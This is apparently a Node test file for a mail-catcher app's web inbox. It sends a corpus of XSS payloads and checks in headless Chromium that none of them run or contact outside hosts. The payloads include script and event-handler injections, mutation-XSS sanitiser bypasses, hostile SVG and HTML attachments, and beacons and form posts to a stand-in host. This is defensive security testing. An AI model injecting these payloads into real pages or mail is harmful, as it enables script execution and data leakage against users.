// An XSS corpus sent as mail, shown by headless Chromium: in a sandboxed preview frame on a page
// served from the Mailroom origin, in the preview URL opened as a tab, as attachments and parts
// opened directly, and in the inbox UI. Nothing executes (no dialog, no console marker, no
// navigation, no popup) and no request leaves for another host. A control page without our
// protections proves the payloads are live.

import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Page } from 'playwright-core';
import { startTestServer } from '../helpers/server.js';
import { compose, queuedId, sendRawMail } from '../helpers/mail.js';
import { launchChromium, type Chromium } from '../helpers/chromium.js';
import { fileTeardown } from '../helpers/teardown.js';
import { webRoot as builtUi } from '../../server/paths.js';
import type { Mailroom } from '../../server/start.js';
import type { MessageDetail } from '../../server/mail/types.js';

const MARK = 'XSS-MARKER';
const run = (tag: string) => `console.log('${MARK} ${tag}');document.title='${MARK}';alert('${tag}')`;

/** HTML bodies: each tries to run script, navigate, submit, or reach evil.test. */
const HTML_PAYLOADS: Record<string, string> = {
  script: `<p>hi</p><script>${run('script')}</script>`,
  onerror: `<img src="data:," onerror="${run('onerror')}"><img src=x onerror="${run('onerror2')}">`,
  svgOnload: `<svg onload="${run('svg-onload')}"><circle r=5></circle></svg>`,
  svgScript: `<svg><script>${run('svg-script')}</script></svg>`,
  javascriptLink: `<a id="jslink" href="javascript:${run('js-link')}">click me</a>`,
  metaRefresh: `<meta http-equiv="refresh" content="0;url=http://evil.test/refresh"><p>refresh</p>`,
  form: `<form action="http://evil.test/form" method="post"><input name="a" value="b"><button id="submit">go</button></form>`,
  base: `<base href="http://evil.test/"><img src="relative-beacon.png"><a id="baselink" href="relative">rel</a>`,
  iframe: `<iframe src="http://evil.test/frame"></iframe><iframe srcdoc="<script>${run('srcdoc').replace(/'/g, '&#39;')}</script>"></iframe>`,
  cssBeacons: `<style>@import url(http://evil.test/import.css); body{background:url('http://evil.test/bg.png')}</style><div style="background-image:url(http://evil.test/inline-bg.png)">css</div><link rel="stylesheet" href="http://evil.test/style.css">`,
  remoteImages: `<img src="http://evil.test/pixel.gif"><img srcset="http://evil.test/srcset.png 2x"><video poster="http://evil.test/poster.png"></video><audio src="http://evil.test/a.mp3" autoplay></audio>`,
  objects: `<object data="http://evil.test/obj"></object><embed src="http://evil.test/embed"><link rel="prefetch" href="http://evil.test/prefetch">`,
  eventHandlers: `<body onload="${run('body-onload')}"><div onmouseover="${run('mouseover')}" id="hover">hover</div><input autofocus onfocus="${run('onfocus')}"><details open ontoggle="${run('ontoggle')}">x</details></body>`,
  mxss1: `<svg></p><style><a id="</style><img src=1 onerror=${run('mxss1').replace(/'/g, '&#39;')}>">`,
  mxss2: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run('mxss2')}&gt;">`,
  mxss3: `<noscript><p title="</noscript><img src=x onerror=${run('mxss3').replace(/'/g, '&#39;')}>"></noscript>`,
  mxss4: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run('mxss4')}">`,
  windowOpen: `<a id="popup" href="http://evil.test/popup" target="_blank">popup</a><script>window.open('http://evil.test/open')</script>`,
};

const SVG_ATTACHMENT = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run('svg-attachment')}"><script>${run('svg-attachment-script')}</script><image href="http://evil.test/svg-img.png"/></svg>`;
const HTML_ATTACHMENT = `<html><body><script>${run('html-attachment')}</script><img src="http://evil.test/att.png"></body></html>`;

let s: Mailroom;
let ui: Mailroom | null = null;
let browser: Chromium;
let harnessDir: string;
const ids: string[] = [];

const teardown = fileTeardown();

before(async () => {
  // A page from the Mailroom origin that frames every preview the way the inbox does.
  harnessDir = mkdtempSync(join(tmpdir(), 'mailroom-harness-'));
  teardown.defer('harness dir', () => rmSync(harnessDir, { recursive: true, force: true }));
  writeFileSync(join(harnessDir, 'index.html'), '<!doctype html><meta charset="utf-8"><title>harness</title><body><script type="module" src="/harness.js"></script></body>');
  writeFileSync(
    join(harnessDir, 'harness.js'),
    `const { messages } = await (await fetch('/api/messages?limit=100')).json();
     await Promise.all(messages.map((m) => new Promise((resolve) => {
       const f = document.createElement('iframe');
       f.setAttribute('sandbox', 'allow-popups allow-popups-to-escape-sandbox');
       f.referrerPolicy = 'no-referrer';
       f.name = m.id;
       f.onload = resolve;
       f.src = '/api/messages/' + m.id + '/html';
       document.body.append(f);
     })));
     console.log('HARNESS-READY ' + messages.length);`,
  );
  s = teardown.add(await startTestServer({}, { webRoot: harnessDir }), 'mailroom');
  const send = async (options: Parameters<typeof compose>[0]) => {
    const raw = await compose({ from: 'a@example.test', to: 'b@example.test', ...options });
    ids.push(queuedId(await sendRawMail(s.smtpPort, raw, { from: 'a@example.test', to: ['b@example.test'] })));
  };
  for (const [name, html] of Object.entries(HTML_PAYLOADS)) await send({ subject: `payload ${name}`, html });
  await send({
    subject: `<img src=x onerror="${run('subject')}"><script>${run('subject-script')}</script>`,
    from: `"<svg onload=${run('from-name')}>" <a@example.test>`,
    text: `<script>${run('text-body')}</script> plain text that looks like HTML`,
    attachments: [
      { filename: 'evil.svg', content: SVG_ATTACHMENT, contentType: 'image/svg+xml' },
      { filename: 'evil.html', content: HTML_ATTACHMENT, contentType: 'text/html' },
      { filename: 'not-really.png', content: HTML_ATTACHMENT, contentType: 'image/png' },
      { filename: `"><img src=x onerror=${run('filename')}>.txt`, content: 'x' },
    ],
  });
  browser = teardown.add(await launchChromium(), 'chromium');
});


interface Watch {
  markers: string[];
  dialogs: string[];
  foreign: string[];
  popups: string[];
  navigations: string[];
}

/** A tab that records everything a payload could do, aborting any request to another host. */
async function watchedPage(origin: string): Promise<{ page: Page; watch: Watch }> {
  const watch: Watch = { markers: [], dialogs: [], foreign: [], popups: [], navigations: [] };
  const page = await browser.context.newPage();
  const host = new URL(origin).host;
  await page.route('**/*', (route) => {
    const url = route.request().url();
    if (new URL(url).host === host) return route.continue().catch(() => {}); // the page may be closing
    watch.foreign.push(url);
    return route.abort().catch(() => {});
  });
  page.on('console', (m) => {
    if (m.text().includes(MARK)) watch.markers.push(m.text());
  });
  page.on('dialog', (d) => {
    watch.dialogs.push(d.message());
    void d.dismiss().catch(() => {});
  });
  page.on('popup', (p) => watch.popups.push(p.url()));
  page.on('framenavigated', (f) => {
    const u = f.url();
    // chrome-error:// is what a blocked load (CSP frame-src, aborted request) leaves behind.
    if (u !== 'about:blank' && u !== 'about:srcdoc' && !u.startsWith('chrome-error:') && !u.startsWith(origin)) watch.navigations.push(u);
  });
  return { page, watch };
}

function assertQuiet(watch: Watch, where: string, expectedPopups: string[] = []) {
  assert.deepEqual(watch.markers, [], `${where}: script ran`);
  assert.deepEqual(watch.dialogs, [], `${where}: dialog opened`);
  assert.deepEqual(watch.foreign, [], `${where}: request to another host`);
  assert.deepEqual(watch.popups, expectedPopups, `${where}: popups`);
  assert.deepEqual(watch.navigations, [], `${where}: navigated away`);
}

test('control: without Mailroom\'s protections the payloads do run (so the checks below can fail)', async () => {
  const { page, watch } = await watchedPage('http://control.invalid');
  await page.setContent(Object.values(HTML_PAYLOADS).join('\n'), { waitUntil: 'domcontentloaded' });
  await sleep(500); // a bounded quiet period: the payloads get this long to run
  const fired = new Set(watch.markers.map((m) => m.split(' ')[1]));
  assert.ok(fired.size >= 5, `only ${[...fired].join(', ')} fired in the unprotected page`);
  assert.ok(watch.dialogs.length > 0);
  await page.close();
});

test('previews framed by a page from the Mailroom origin: nothing runs, nothing leaves, even after clicks', async () => {
  const { page, watch } = await watchedPage(s.url);
  const ready = page.waitForEvent('console', { predicate: (m) => m.text().startsWith('HARNESS-READY'), timeout: 15_000 });
  await page.goto(s.url + '/');
  assert.equal((await ready).text(), `HARNESS-READY ${ids.length}`);
  // Interact where a payload waits for it. (A plain link clicked by the user may open a tab:
  // that is what links in mail are for; <base href> must not have redirected it to evil.test.)
  // Every target must be there and take the action: a preview that did not render fails here.
  let baseLinkHref = '';
  for (const [sel, action] of [['#jslink', 'click'], ['#submit', 'click'], ['#baselink', 'click'], ['#hover', 'hover']] as const) {
    const frames = [];
    for (const frame of page.frames()) if ((await frame.locator(sel).count()) > 0) frames.push(frame);
    assert.equal(frames.length, 1, `${sel} rendered in exactly one preview`);
    if (sel === '#baselink') baseLinkHref = frames[0]!.url().replace(/\/html$/, '/relative');
    await frames[0]!.locator(sel).first()[action]({ timeout: 5000 });
  }
  await sleep(800); // a bounded quiet period: this asserts that nothing happens after the clicks
  assert.ok(baseLinkHref.startsWith(s.url));
  assertQuiet(watch, 'framed previews', [baseLinkHref]);
  assert.equal(page.url(), s.url + '/');
  await page.close();
});

test('each preview URL opened directly in a tab (CSP sandbox without the iframe attribute): nothing runs', async () => {
  const { page, watch } = await watchedPage(s.url);
  let clicked = 0;
  for (const id of ids) {
    const res = await page.goto(`${s.url}/api/messages/${id}/html`);
    assert.equal(res?.status(), 200);
    assert.match(res.headers()['content-security-policy'] ?? '', /^sandbox /);
    const target = page.locator('#jslink, #submit');
    if ((await target.count()) > 0) {
      clicked++;
      await target.first().click({ timeout: 5000 });
    }
  }
  assert.equal(clicked, 2, 'the javascript: link and the form button rendered in their tabs');
  await sleep(500); // a bounded quiet period: nothing may happen after the clicks
  assertQuiet(watch, 'previews in a tab');
  await page.close();
});

test('SVG, HTML and mislabelled attachments, and the raw message, opened directly: downloaded or inert, never run', async () => {
  const { page, watch } = await watchedPage(s.url);
  const last = ids[ids.length - 1]!;
  const d = (await (await fetch(`${s.url}/api/messages/${last}`)).json()) as MessageDetail;
  assert.equal(d.parts.length, 4);
  const urls = d.parts.map((p) => `${s.url}/api/messages/${last}/parts/${p.id}`).concat(`${s.url}/api/messages/${last}/raw`);
  let downloads = 0;
  page.on('download', () => downloads++);
  for (const url of urls) {
    await page.goto(url).catch((err: Error) => {
      assert.match(err.message, /Download is starting|net::ERR_ABORTED/, url); // served as a download, not rendered
    });
    await sleep(200); // a bounded quiet period after each download attempt
  }
  assertQuiet(watch, 'attachments');
  assert.ok(downloads >= 3, `${downloads} downloads`);
  await page.close();
});

test('the inbox UI with hostile subjects, names and bodies: nothing runs, nothing leaves', async () => {
  assert.ok(existsSync(join(builtUi, 'index.html')), 'web UI built (npm test builds it first)');
  ui = teardown.add(await startTestServer({}, { webRoot: builtUi }), 'ui server');
  const uiIds: string[] = []; // the same messages under the UI server's ids
  for (const id of ids) {
    const raw = Buffer.from(await (await fetch(`${s.url}/api/messages/${id}/raw`)).arrayBuffer());
    uiIds.push(queuedId(await sendRawMail(ui.smtpPort, raw, { from: 'a@example.test', to: ['b@example.test'] })));
  }
  const { page, watch } = await watchedPage(ui.url);
  await page.goto(ui.url + '/');
  await page.getByTestId('list-count').filter({ hasText: `${ids.length} messages` }).waitFor();
  // The newest rows (the hostile subject and sender among them) are on screen.
  await page.getByRole('option', { name: /plain text that looks like HTML|<img src=x/ }).first().waitFor();
  // Open messages at their permalinks (older rows are below the fold of the virtual list);
  // each must show its own preview, rendered.
  const preview = page.frameLocator('iframe[title="Message preview"]');
  for (const [name, shows] of [['script', 'hi'], ['onerror', null], ['mxss1', null], ['metaRefresh', 'refresh'], ['form', 'go']] as const) {
    const id = uiIds[Object.keys(HTML_PAYLOADS).indexOf(name)]!;
    await page.goto(`${ui.url}/messages/${id}`);
    await page.getByRole('heading', { name: `payload ${name}` }).waitFor();
    await page.locator(`iframe[title="Message preview"][src="/api/messages/${id}/html"]`).waitFor();
    await preview.locator('body').waitFor({ state: 'attached' });
    if (shows) await preview.getByText(shows, { exact: true }).first().waitFor();
  }
  // The plain-text message (the newest row) shows its "HTML" as text.
  await page.getByRole('option').first().click();
  await page.getByRole('heading', { name: /^<img src=x onerror=/ }).waitFor();
  await page.getByRole('tab', { name: 'Text' }).click();
  await page.getByTestId('text-body').filter({ hasText: '<script>' }).waitFor();
  await sleep(800); // a bounded quiet period: nothing may run after the previews rendered
  assertQuiet(watch, 'inbox UI');
  await page.close();
});
